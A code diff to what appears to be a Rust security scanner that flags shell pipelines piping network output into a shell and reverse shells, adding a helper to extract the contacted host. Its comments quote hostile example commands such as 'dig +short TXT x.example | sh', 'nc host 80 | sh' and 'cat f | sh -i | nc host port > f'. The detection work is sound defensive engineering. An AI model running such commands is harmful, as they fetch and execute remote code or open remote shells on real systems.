@@ -1701,7 +1701,14 @@ pub(super) fn pipelines(scan: &mut Scan<'_>) {
                 && matches!(c.via, Via::Xargs | Via::Runs | Via::Eval)
                 && is_downloader(c.program())
         });
-        let downloads = (is_downloader(program) || xargs_downloads) && !writes_stdout_to_file(cmd);
+        // What another machine answers is fetched as a download is: a DNS record (`dig +short
+        // TXT x.example | sh`), a remote command's output (`ssh host cat x.sh | sh`), a raw
+        // connection's (`nc host 80 | sh`).
+        let answers = catalogue::is(program, Class::Network)
+            && !is_decoder(cmd)
+            && answering_host(cmd).is_some();
+        let downloads =
+            (is_downloader(program) || answers || xargs_downloads) && !writes_stdout_to_file(cmd);
         // A shell whose input and output are wired to a raw connection: a reverse shell
         // built from a pipe (`cat f | sh -i | nc host port > f`, `telnet | bash | telnet`).
         if is_connector(cmd)
@@ -2324,15 +2331,28 @@ pub(super) fn keys_in_unknown(text: &str, scan: &mut Scan<'_>) {
 fn download_host(cmd: &Command, line: &crate::shell::Line) -> Option<String> {
     line.commands
         .iter()
-        .filter(|c| c.pipeline == cmd.pipeline && is_downloader(c.program()))
-        .flat_map(|c| c.args().iter())
-        .find_map(|a| {
-            if a.starts_with('-') {
-                None
-            } else {
-                url_host(a)
-            }
+        .filter(|c| {
+            c.pipeline == cmd.pipeline
+                && (is_downloader(c.program()) || catalogue::is(c.program(), Class::Network))
         })
+        .find_map(answering_host)
+}
+
+/// The other machine a client's arguments name: an address, `user@host`, or a name a
+/// lookup asks about (`cmd.example.net`); not an option, nor dig's `@server`.
+fn answering_host(cmd: &Command) -> Option<String> {
+    cmd.args().iter().find_map(|a| {
+        if a.starts_with('-') || a.starts_with('@') {
+            None
+        } else {
+            url_host(a).or_else(|| {
+                (a.contains('.')
+                    && a.bytes()
+                        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-')))
+                .then(|| a.trim_end_matches('.').to_ascii_lowercase())
+            })
+        }
+    })
 }
 
 /// A client of another machine, or a command wired to a raw socket.
